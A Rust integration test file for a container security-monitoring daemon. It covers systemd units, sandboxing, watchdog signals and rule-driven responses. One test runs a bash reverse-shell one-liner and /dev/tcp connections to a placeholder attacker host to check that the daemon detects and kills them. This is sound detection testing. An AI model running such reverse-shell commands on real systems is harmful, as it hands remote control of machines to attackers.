//! The daemon as systemd runs it, without systemd: its units, its socket handed over, what it says of itself, and the
//! capabilities that it has there. And the daemon that goes on without either.

#![expect(clippy::unwrap_used, clippy::expect_used, reason = "what fails here is a test")]

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::fd::OwnedFd;
use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
use std::os::unix::net::{UnixDatagram, UnixListener};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use coi_tests::incus::Foreign;
use coi_tests::{
    Attacker, Coi, DEADLINE, Daemon, Running, SMALL, TINY, actions, alerts, copy_program, end, eventually,
    incus, program, write_script,
};
use nix::sys::ptrace;
use nix::sys::signal::Signal;
use nix::unistd::Pid;
use serde_json::{Value, json};
use tempfile::TempDir;

/// How often a sign of life is asked for, in microseconds.
const WATCHDOG: &str = "600000";

/// Another system's root, with the units in it, and the program where only root can write.
fn installed() -> (TempDir, PathBuf) {
    let root = tempfile::tempdir().unwrap();
    fs::set_permissions(root.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let program = root.path().join("coi");
    copy_program(self::program(), &program);
    let mut install = Command::new(&program);
    let ended = end(install.args(["daemon", "install", "--root"]).arg(root.path())).expect(0);
    let units = root.path().join("etc/systemd/system");
    let shown = |name: &str| format!("{}\n", units.join(name).display());
    assert_eq!(ended.text(), shown("coi.socket") + &shown("coi.service"));
    (root, units)
}

/// A setting of the unit.
fn setting(units: &Path, key: &str) -> String {
    let text = fs::read_to_string(units.join("coi.service")).unwrap();
    let line = text.lines().find_map(|line| line.strip_prefix(key)?.strip_prefix('='));
    line.unwrap_or_else(|| panic!("{key} is not set")).to_owned()
}

#[test]
fn systemd_understands_the_units() {
    let (root, units) = installed();
    let analyze = |arguments: &[&str]| {
        let mut command = Command::new("systemd-analyze");
        command.args(arguments).args([units.join("coi.socket"), units.join("coi.service")]);
        end(&mut command)
    };
    // What it warns of it says, and ends with 0.
    let ended = analyze(&["verify"]).expect(0);
    assert_eq!((ended.text().as_str(), ended.stderr.as_str()), ("", ""));
    let mut security = Command::new("systemd-analyze");
    security.args(["security", "--offline=true", "--no-pager", "--threshold=48"]);
    end(security.arg(units.join("coi.service"))).expect(0);
    assert!(setting(&units, "ExecStart").starts_with(root.path().to_str().unwrap()));

    let mut uninstall = Command::new(root.path().join("coi"));
    end(uninstall.args(["daemon", "uninstall", "--root"]).arg(root.path())).expect(0);
    assert_eq!(fs::read_dir(units).unwrap().count(), 0);
}

#[test]
fn a_dry_run_changes_nothing() {
    let root = tempfile::tempdir().unwrap();
    let mut install = Daemon::absent().command(&["daemon", "install", "--dry-run", "--root"]);
    let said = end(install.arg(root.path())).expect(0).text();
    assert!(
        said.contains("[Socket]") && said.contains("\nExecStart=") && said.contains(" daemon\n"),
        "{said}"
    );
    assert_eq!(fs::read_dir(root.path()).unwrap().count(), 0);
}

#[test]
fn without_systemd_there_is_another_way() {
    // In a mount namespace without what systemd has at /run.
    let mut install = Command::new("unshare");
    install.args(["--mount", "sh", "-c", "mount -t tmpfs none /run && exec \"$0\" daemon install --dry-run"]);
    end(install.arg(program())).expect(1).says("was not started by systemd").says("sudo coi daemon --detach");
}

#[test]
fn a_program_of_somebody_else_is_not_installed() {
    let (root, _) = installed();
    let program = root.path().join("coi");
    fs::set_permissions(&program, fs::Permissions::from_mode(0o777)).unwrap();
    let mut install = Command::new(&program);
    let ended = end(install.args(["daemon", "install", "--root"]).arg(root.path())).expect(1);
    ended.says("can be changed by others than root").says("sudo install -m 755");
}

/// A daemon that is started as systemd does it: with a socket, and somebody who listens.
struct Service {
    daemon: Option<Running>,
    heard: UnixDatagram,
    place: Daemon,
}

impl Service {
    fn start() -> Self {
        let place = Daemon::absent();
        let listener = UnixListener::bind(place.socket()).unwrap();
        let notify = place.socket().with_extension("notify");
        let heard = UnixDatagram::bind(&notify).unwrap();
        heard.set_read_timeout(Some(DEADLINE)).unwrap();
        // The socket is to be descriptor 3 of the process that LISTEN_PID names.
        let line = "exec 3<&0 </dev/null; LISTEN_FDS=1 LISTEN_PID=$$ WATCHDOG_PID=$$ exec \"$0\" daemon";
        let mut sh = Command::new("sh");
        sh.args(["-c", line]).arg(program());
        place.point(&mut sh);
        sh.env_remove("COI_SOCKET").env("NOTIFY_SOCKET", notify).env("WATCHDOG_USEC", WATCHDOG);
        let daemon = Running::start(sh.stdin(Stdio::from(OwnedFd::from(listener))));
        Self { daemon: Some(daemon), heard, place }
    }

    /// The next that it says.
    #[track_caller]
    fn hear(&self) -> String {
        let mut buffer = [0; 4096];
        let length = self.heard.recv(&mut buffer).expect("it says nothing");
        String::from_utf8_lossy(&buffer[..length]).trim_end().to_owned()
    }

    fn pid(&self) -> Pid {
        self.daemon.as_ref().unwrap().pid()
    }

    /// The thread that judges events.
    fn monitor(&self) -> Pid {
        let tasks = fs::read_dir(format!("/proc/{}/task", self.pid())).unwrap();
        let is_it =
            |task: &PathBuf| fs::read_to_string(task.join("comm")).is_ok_and(|name| name == "coi-monitor\n");
        let task = tasks.map(|task| task.unwrap().path()).find(is_it).unwrap();
        Pid::from_raw(task.file_name().unwrap().to_str().unwrap().parse().unwrap())
    }

    fn end(mut self) {
        let daemon = self.daemon.take().unwrap();
        daemon.signal(Signal::SIGTERM);
        while self.hear() != "STOPPING=1" {}
        // From here on nobody listens, which keeps it from nothing.
        daemon.finish().expect(0);
        assert!(self.place.socket().exists(), "the socket is systemd's, and is gone");
    }
}

impl Drop for Service {
    fn drop(&mut self) {
        if let Some(daemon) = self.daemon.take() {
            daemon.signal(Signal::SIGKILL);
        }
    }
}

#[test]
fn it_serves_systemds_socket_and_shows_that_its_monitor_lives() {
    let service = Service::start();
    assert_eq!(service.hear(), "READY=1");
    let (status, answer) = incus::call(service.place.socket(), "GET", "/v1/status");
    assert_eq!((status, answer["pid"].as_i64()), (200, Some(service.pid().as_raw().into())));
    for _ in 0..3 {
        assert_eq!(service.hear(), "WATCHDOG=1");
    }

    // The thread that judges stands still, and all others go on.
    let monitor = service.monitor();
    ptrace::seize(monitor, ptrace::Options::empty()).unwrap();
    ptrace::interrupt(monitor).unwrap();
    nix::sys::wait::waitpid(monitor, Some(nix::sys::wait::WaitPidFlag::__WALL)).unwrap();
    assert_eq!(incus::call(service.place.socket(), "GET", "/v1/status").0, 200);
    // One may have been on its way.
    service.heard.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    let mut buffer = [0; 64];
    let heard = std::iter::from_fn(|| service.heard.recv(&mut buffer).ok());
    assert!(heard.count() <= 1, "it shows life, and its monitor stands still");

    ptrace::detach(monitor, None).unwrap();
    service.heard.set_read_timeout(Some(DEADLINE)).unwrap();
    assert_eq!(service.hear(), "WATCHDOG=1");
    service.end();
}

/// What the unit makes of the file system, as far as it can be had without systemd: all of it read-only but the daemon's
/// own directories, homes and cgroups, and no devices but those that everybody has. Then what it makes of the capabilities and
/// of the system calls.
/// `$SOCKET` is in the daemon's directory.
const SANDBOX: &str = r#"#!/bin/sh
export OWN="$(dirname "$COI_SOCKET")" CAPABILITIES="@CAPABILITIES@"
exec unshare --mount --propagation private sh -ec '
    mount -n --rbind "$OWN" "$OWN"
    mkdir -p "$OWN/dev"
    mount -n -t tmpfs none "$OWN/dev"
    for device in null zero full random urandom tty; do
        : >"$OWN/dev/$device"
        mount -n --bind "/dev/$device" "$OWN/dev/$device"
    done
    for home in /home /root; do
        mount -n --rbind "$home" "$home"
    done
    cut -d " " -f 5 /proc/self/mountinfo | while read -r point; do
        case $point in
            /home | /home/* | /root | /root/* | "$OWN" | "$OWN"/*) ;;
            /dev | /dev/* | /proc | /proc/* | /sys/fs/cgroup | /sys/fs/cgroup/*) ;;
            *) mount -n -o remount,bind,ro "$point" || echo "$point stays writable" >&2 ;;
        esac
    done
    mount -n --bind /proc/sys /proc/sys
    mount -n -o remount,bind,ro /proc/sys
    mount -n --move "$OWN/dev" /dev
    exec setpriv --no-new-privs --inh-caps=-all --bounding-set="-all,$CAPABILITIES" "@FILTERED@" "@CALLS@" "$@"
' sh "$@"
"#;

/// The numbers that this machine's calls have, of those that systemd takes this filter for.
fn numbers(filter: &str) -> String {
    let sets = end(Command::new("systemd-analyze").arg("syscall-filter")).expect(0).text();
    let mut members: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    let mut set = "";
    for line in sets.lines() {
        match line.strip_prefix("    ") {
            Some(name) if !name.starts_with('#') => members.entry(set).or_default().push(name),
            Some(_) => {}
            None => set = line,
        }
    }
    let mut compiler = Command::new("cc");
    let macros = end(compiler.args(["-dM", "-E", "-include", "sys/syscall.h", "-x", "c", "/dev/null"]));
    let macros = macros.expect(0).text();
    let numbers: BTreeMap<&str, &str> = macros
        .lines()
        .filter_map(|line| line.strip_prefix("#define __NR_")?.split_once(' '))
        .filter(|(_, number)| number.parse::<u32>().is_ok())
        .collect();
    // What systemd lets through always.
    let mut wanted: Vec<_> = filter.split(' ').chain(["@default"]).collect();
    let mut calls: BTreeSet<&str> = BTreeSet::new();
    while let Some(name) = wanted.pop() {
        match members.get(name) {
            Some(more) => wanted.extend(more),
            None => calls.extend(numbers.get(name).copied()),
        }
    }
    calls.into_iter().collect::<Vec<_>>().join(",")
}

/// A program that starts another one as the unit does.
fn sandbox(units: &Path, at: &Path) -> PathBuf {
    for (key, value) in [
        ("ProtectSystem", "strict"),
        ("ProtectHome", "no"),
        ("ReadWritePaths", "-/home -/root"),
        ("PrivateDevices", "yes"),
        ("ProtectKernelTunables", "yes"),
        ("ProtectControlGroups", "no"),
        ("NoNewPrivileges", "yes"),
        ("SystemCallArchitectures", "native"),
        ("SystemCallErrorNumber", "EPERM"),
    ] {
        assert_eq!(setting(units, key), value, "{key}: the sandbox of this test is another one");
    }
    let capabilities = setting(units, "CapabilityBoundingSet").to_lowercase();
    let capabilities: Vec<_> =
        capabilities.split(' ').map(|name| format!("+{}", name.strip_prefix("cap_").unwrap())).collect();
    let script = at.join("sandbox");
    let text = SANDBOX
        .replace("@CAPABILITIES@", &capabilities.join(","))
        .replace("@FILTERED@", env!("CARGO_BIN_EXE_filtered"))
        .replace("@CALLS@", &numbers(&setting(units, "SystemCallFilter")));
    write_script(&script, &text);
    script
}

/// Every machine has this user.
const NOBODY: u32 = 65534;

/// One rule for each answer. What tells does so as `nobody`, whose number is what it ends with.
const ANSWERS: &str = r#"
    [[rule]]
    id = "denied"
    title = "t"
    severity = "warning"
    action = "deny"
    event = "connect"
    condition = "destination.port == 9999"

    [[rule]]
    id = "ended"
    title = "t"
    severity = "warning"
    action = "kill-process"
    event = "open"
    condition = "file.name == 'ended'"

    [[rule]]
    id = "severed"
    title = "t"
    severity = "high"
    action = "cut-network"
    event = "open"
    condition = "file.name == 'severed'"
"#;
const TELLS: &str = r#"
    [[notify]]
    severity = "critical"
    command = ["/bin/sh", "-c", "exit $(($(id -u) % 256))"]
"#;

#[test]
fn every_answer_is_given_in_its_sandbox() {
    let (_root, units) = installed();
    let files = tempfile::tempdir().unwrap();
    let at = |name: &str| files.path().join(name).to_str().unwrap().to_owned();
    fs::write(at("rules.toml"), ANSWERS).unwrap();
    fs::write(at("config.toml"), TELLS).unwrap();
    let sandbox = sandbox(&units, files.path());
    let arguments = ["--rules", &at("rules.toml"), "--config", &at("config.toml")];
    let coi = Coi::with_daemon_by(sandbox.to_str().unwrap(), &arguments);
    let daemon = coi.daemon().pid().unwrap();
    let status = fs::read_to_string(format!("/proc/{daemon}/status")).unwrap();
    let bounding = status.lines().find_map(|line| line.strip_prefix("CapBnd:")).unwrap().trim();
    let count = setting(&units, "CapabilityBoundingSet").split(' ').count();
    assert_eq!(u64::from_str_radix(bounding, 16).unwrap().count_ones() as usize, count);
    assert!(status.contains("\nSeccomp:\t2\n"), "it runs without a filter of system calls: {status}");
    let place = |path: &str| format!("/proc/{daemon}/root{path}");
    fs::write(place("/etc/coi-e2e"), "").expect_err("the machine is writable in the sandbox");
    assert!(!Path::new(&place("/dev/kmsg")).exists(), "there are devices in the sandbox");

    // Refused; a process ended, and nothing else; the network cut; what stood still looked at before it is killed.
    let attacker = Attacker::on_bridge();
    coi.write("ended", "");
    coi.write("severed", "");
    let script = "exec 2>&1; (exec 3<>/dev/tcp/HOST/9999); bash -c ': <ended; sleep 1000'; echo ended $?; \
                  : <severed; until (exec 4<>/dev/tcp/HOST/PORT) 2>&1 | grep -q 'not permitted'; do :; done; echo severed";
    let ended = coi.run(SMALL, &["bash", "-c", &attacker.fill(script)]).expect(0);
    let said = ended.text();
    assert!(said.contains("Operation not permitted") && said.ends_with("ended 137\nsevered\n"), "{said}");
    let done: Vec<_> = actions(&coi.audit(&coi.container()));
    let wanted = [("denied", "deny"), ("ended", "kill-process"), ("severed", "cut-network")];
    let wanted = wanted.map(|(rule, action)| (rule.to_owned(), action.to_owned(), "success".to_owned()));
    assert_eq!(done, wanted);

    let ended = coi.run(SMALL, &["bash", "-c", &attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")]);
    let killed = ended.expect(137);
    assert!(killed.stderr.contains("rule reverse-shell-socket (critical)"), "{}", killed.stderr);
    let name = coi.container();
    let records = coi.audit(&name);
    let alert = alerts(&records).find(|alert| alert["coi"]["action"]["name"] == "kill").unwrap();
    let evidence = fs::read(alert["coi"]["action"]["evidence"]["file"].as_str().unwrap()).unwrap();
    let evidence: Value = serde_json::from_slice(&evidence).unwrap();
    assert_eq!((&evidence["found"]["frozen"], &evidence["found"]["complete"]), (&true.into(), &true.into()));
    let remote = attacker.address.to_string();
    let processes = evidence["found"]["processes"].as_array().unwrap();
    let holds = |process: &Value| {
        process["sockets"].as_array().unwrap().iter().any(|socket| socket["remote"] == remote.as_str())
    };
    assert!(processes.iter().any(holds), "{evidence:#}");
    // As `nobody`, 65534. The container's own log may be closed by then.
    eventually("who is told was run", || coi.daemon().log().contains("/bin/sh ended with exit code 254"));

    // A session is written into a home, by whose home it is; the daemon itself could not.
    let container = Foreign::make(TINY);
    let name = container.name.as_str();
    let home = tempfile::Builder::new().prefix("coi-e2e-").tempdir_in("/home").unwrap();
    chown(home.path(), Some(NOBODY), Some(NOBODY)).unwrap();
    let life = json!({ "delete": true, "grace_seconds": 0 });
    let subject = json!({ "type": "container", "name": name });
    let watch = json!({ "subject": subject, "respond": true, "owner": NOBODY, "life": life });
    assert_eq!(coi.post("/v1/watches", &watch).0, 200);
    let id = "0d5b5e0e-0000-4000-8000-000000000001";
    let metadata = json!({ "session_id": id, "container": name, "workspace": "/w", "tool": "claude" });
    let plan = json!({ "directory": home.path(), "home": "/root", "paths": [], "metadata": metadata });
    assert_eq!(coi.post(&format!("/v1/watches/{name}/session"), &plan).0, 200);
    let (status, answer) = coi.post(&format!("/v1/watches/{name}/finish"), &Value::Null);
    assert_eq!((status, &answer["deleted"]), (200, &json!(true)), "{answer}");
    assert_eq!(fs::metadata(home.path().join(id).join("metadata.json")).unwrap().uid(), NOBODY);

    // What outlives it freezes, and the next one, in a sandbox of its own, thaws.
    let container = Foreign::make(TINY);
    container.start();
    let how = ["--respond", "--on-monitor-loss", "freeze", "--detach"];
    coi.coi(&[&["monitor", "--attach", &container.name][..], &how].concat()).expect(0);
    let events = incus::cgroups().join(format!("lxc.payload.{}/cgroup.events", container.name));
    let is_frozen = || fs::read_to_string(&events).unwrap().contains("frozen 1");
    coi.daemon().kill();
    eventually("it is frozen", is_frozen);
    coi.daemon().start_again();
    assert!(!is_frozen());
}

#[test]
fn it_goes_on_without_its_starter() {
    let coi = Coi::without_daemon();
    let ended = coi.coi(&["daemon", "--detach", "--idle-exit", "10m"]).expect(0);
    let pid = coi.daemon().pid().unwrap();
    let ended = ended.says(&format!("coi: the daemon answers on {}", coi.daemon().socket().display()));
    ended.says(&format!("process {pid}, its log is {}", coi.daemon().logs().join("daemon.log").display()));
    // It is in a session of its own, and holds nothing of ours.
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let fields: Vec<_> = stat.rsplit(')').next().unwrap().split_whitespace().collect();
    assert_eq!((fields[3], fields[4]), (pid.to_string().as_str(), "0"), "session and terminal");
    let log = coi.daemon().logs().join("daemon.log");
    let leads = |fd: u32| fs::read_link(format!("/proc/{pid}/fd/{fd}")).unwrap();
    assert_eq!([leads(0), leads(1), leads(2)], ["/dev/null".into(), log.clone(), log]);
    coi.coi(&["daemon", "--detach"]).expect(4).says("a COI daemon runs already");

    let elsewhere = Coi::without_daemon();
    fs::write(elsewhere.workspace().join("wrong.toml"), "[audi]\n").unwrap();
    let ended = elsewhere.coi(&["daemon", "--detach", "--config", "wrong.toml"]).expect(6);
    ended.says("the COI daemon does not start").says("did you mean `audit`?");
}
